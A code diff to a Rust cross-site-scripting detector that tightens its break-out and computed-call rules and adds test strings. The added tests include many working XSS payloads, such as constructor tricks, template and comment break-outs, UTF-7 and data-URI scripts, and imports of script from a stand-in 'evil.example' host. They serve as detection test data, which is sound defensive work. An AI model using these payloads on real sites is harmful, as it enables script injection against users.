@@ -723,14 +723,16 @@ fn script_context(b: &[u8], paranoia: u8, dom: bool) -> Option<Hit> {
         }
         // An operator keyword before a dialog (`'-typeof alert(1)-'`, `';void prompt(1)//`).
         let (ks, ke) = word_before(b, k);
-        if dialog && ke == k && ks < ke && OPERATOR_WORDS.contains(&&b[ks..ke]) {
+        let keyword = dialog && ke == k && ks < ke && OPERATOR_WORDS.contains(&&b[ks..ke]);
+        if keyword {
             k = ks;
             while k > 0 && (b[k - 1].is_ascii_whitespace()) {
                 k -= 1;
             }
         }
         // A template's `${`, or a comment closed (`*/alert(1)`), starts code wherever it is.
-        let opened = k >= 2 && matches!(&b[k - 2..k], b"${" | b"*/");
+        let opened = (k >= 2 && matches!(&b[k - 2..k], b"${" | b"*/"))
+            || (keyword && ks > 0 && matches!(b[ks - 1], b'"' | b'\'' | b'`'));
         let breakout = opened
             || (k > 0
                 && matches!(
@@ -757,7 +759,8 @@ fn script_context(b: &[u8], paranoia: u8, dom: bool) -> Option<Hit> {
                         | b'<'
                 )
                 && first_break.is_some_and(|f| f < k));
-        let bare = k == 0 && (paranoia >= 2 || (dialog && whole_call(b, i)));
+        // A whole value that is a call (`alert(1)`), not a word before a remark (`Prompt (…)`).
+        let bare = k == 0 && we == callee_end && (paranoia >= 2 || (dialog && whole_call(b, i)));
         if breakout || bare {
             return Some(Hit::new(
                 "xss.js_breakout",
@@ -972,9 +975,8 @@ fn global_computed_call(b: &[u8]) -> Option<Hit> {
             continue;
         };
         let inner = &b[open + 1..close];
-        let computed = inner
-            .iter()
-            .any(|c| matches!(c, b'(' | b'+' | b'/' | b'.' | b'['));
+        // A name made by a call or from a regular expression's source, not a variable.
+        let computed = inner.iter().any(|c| matches!(c, b'(' | b'/'));
         if computed && called_at(b, close + 1) {
             return Some(Hit::new("xss.dom_sink", ws, close + 1));
         }
@@ -1225,6 +1227,37 @@ mod tests {
             "top['x'](1)",
             "top[\"al\"+\"ert\"](1)",
             "window['ev' + 'a' + `l`](atob(x))",
+            // Dialogs reached without a plain call, functions built from strings and run.
+            "top.alert(1)",
+            "';self.confirm`1`//",
+            "(alert)(1)",
+            "(0,eval)('x')",
+            "[1].map(alert)",
+            "Reflect.apply(prompt,null,[1])",
+            "alert.call(null,1)",
+            "x=alert,x(1)",
+            "Function('alert(1)')()",
+            "[].constructor.constructor('alert(1)')()",
+            "{{$on.constructor('alert(1)')()}}",
+            "Set.constructor`alert\\x281\\x29```",
+            "''['constructor']['constructor']('x')()",
+            "import('//evil.example/x.js')",
+            "$.getScript('//evil.example/x.js')",
+            "window[atob('YWxlcnQ=')](1)",
+            "self[Object.keys(self)[5]](1)",
+            "this['alert'](1)",
+            // Break-outs through templates, comments, operators and keywords.
+            "${alert(1)}",
+            "*/alert(1)/*",
+            "'^alert(1)^'",
+            "'-typeof alert(1)-'",
+            "'in alert(1) in'",
+            "';alert/**/(1)//",
+            "alert?.(1)",
+            "onerror=prompt",
+            // UTF-7 runs and script data URIs.
+            "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
+            "data:text/javascript;base64,YWxlcnQoMSk=",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
         }
@@ -1262,6 +1295,20 @@ mod tests {
             "top[\"score\"] = 5",
             "top[\"a\" + \"b\"] = 5",
             "top[\"a\" + x](1)",
+            // Code and prose near the new shapes.
+            "The alert, critical and error levels (alert) (crit) are mapped.",
+            "levels(alert,crit,err)",
+            "severity=alert, facility=local0",
+            "Use new Function('a', 'return a') to build one.",
+            "Use setTimeout(() => done(), 100) in the handler",
+            "items.map(item => item.id)",
+            "window[0] is the first frame",
+            "window[key] = value",
+            "content[\"document\"] = doc",
+            "this[\"value\"] = 3",
+            "import('./local-module.js')",
+            "In React use `onClick={handleClick}` for events.",
+            "In React 'x' in alert(s) mode",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
         }
